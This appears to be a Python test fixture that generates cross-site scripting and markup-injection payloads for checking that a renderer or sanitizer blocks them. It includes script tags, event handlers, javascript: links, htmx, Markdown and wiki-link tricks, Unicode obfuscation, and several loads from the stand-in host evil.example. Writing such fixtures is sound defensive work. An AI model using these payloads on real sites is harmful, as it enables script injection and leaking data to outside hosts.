"""Texts that would run a script, load something or send something away if a page showed them as markup.

Each calls `ran`, which the tests give to the page, or breaks the content policy.
"""

import random
from collections.abc import Iterator
from html import escape

CODES = ("ran(1)", "window.ran(1)", "ran`1`", "top['ran'](1)", "eval('ran(1)')", "import('https://evil.example/x.js')")
SHAPES = (
    "<script>{code}</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<scr<script>ipt>{code}</script>",
    "<img src=x onerror={code}>", '<img src=x onerror="{code}">', "<svg onload={code}>", "<svg/onload='{code}'>",
    "<svg><script>{code}</script></svg>", "<math><mtext><img src=x onerror={code}></mtext></math>",
    "<body onload={code}>", "<details open ontoggle={code}>", "<input autofocus onfocus={code}>",
    '<video><source onerror="{code}"></video>', "<audio src=x onerror={code}>", "<marquee onstart={code}>",
    '<iframe src="javascript:{code}"></iframe>', '<iframe srcdoc="<script>{code}</script>"></iframe>',
    '<object data="javascript:{code}"></object>', '<embed src="javascript:{code}">',
    '<a href="javascript:{code}">x</a>', '<form action="javascript:{code}"><button>x</button></form>',
    '<button formaction="javascript:{code}">x</button>',
    '<meta http-equiv=refresh content="0;url=javascript:{code}">', '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; *{{display:none}}</style>",
    '<p style="background:url(javascript:{code})">', "<template><script>{code}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={code}>">', '"><script>{code}</script>',
    "'><img src=x onerror={code}>", '" autofocus onfocus="{code}', "' onmouseover='{code}",
    "</title><script>{code}</script>", "</textarea><script>{code}</script>", "</pre><img src=x onerror={code}>",
    "</script><script>{code}</script>", "--><script>{code}</script>", "]]><script>{code}</script>",
    '<div hx-get="/ask" hx-trigger="load">', '<div hx-on:load="{code}" hx-nonce="x">',
    '<i data-hx-on:click="{code}">', '<form hx-post="/status/sleep" hx-trigger="load"></form>',
    '<div hx-sse:connect="https://evil.example">', "[x](javascript:{code})", "[x](<javascript:{code}>)",
    "[x](JaVaScRiPt:{code})", "[x](java&#x0A;script:{code})", "[x](&#106;avascript:{code})",
    "[x](data:text/html,<script>{code}</script>)", "[x](vbscript:{code})", "<javascript:{code}>",
    "![x](javascript:{code})", "![x](https://evil.example/p.png)", '![x](x "onerror={code}")',
    '![" onerror="{code}](x)', '[x](https://evil.example/"onmouseover="{code})', "[[javascript:{code}]]",
    "[[x|<img src=x onerror={code}>]]", '[[x" onmouseover="{code}]]', "[[//evil.example/x]]", "![[x.svg]]",
    '> [!note" onmouseover="{code}] <img src=x onerror={code}>', "> [!warning] <script>{code}</script>",
    "- [x] <img src=x onerror={code}>", "==<img src=x onerror={code}>==", "`<script>{code}</script>`",
    '```html" onload="{code}\n<script>{code}</script>\n```',
    "| <script>{code}</script> |\n|---|\n| <img src=x onerror={code}> |", "[x]: javascript:{code}\n\n[x]",
    "# <svg onload={code}>", "{{{{ {code} }}}}", "{{% raw %}}<script>{code}</script>",
    "%3Cscript%3E{code}%3C/script%3E", "&lt;script&gt;{code}&lt;/script&gt;", "&#60;img src=x onerror={code}&#62;",
    "\u202e<script>{code}</script>\u202c", "<\u200bscript>{code}</script>", "\x1b[8m<script>{code}</script>",
)  # fmt: skip
"""Each with `{code}` in the place of what it would run."""


def scripts(count: int) -> Iterator[str]:
    """So many texts, the same each time; every shape comes up in the first ones."""
    chance = random.Random("scripts")
    for number in range(count):
        shape = SHAPES[number % len(SHAPES)] if count >= len(SHAPES) else SHAPES[number * len(SHAPES) // count]
        text = shape.format(code=CODES[number // len(SHAPES) % len(CODES)] if number >= len(SHAPES) else CODES[0])
        match chance.randrange(6) if number >= len(SHAPES) else 0:
            case 1:
                text = text.upper().replace("RAN", "ran")
            case 2:
                text = text.replace(" ", "\t")
            case 3:
                text = f"plan {text} and more"
            case 4:
                text = escape(text, quote=False) + text
            case 5:
                text = f"{text}\n\n{text}"
        yield text
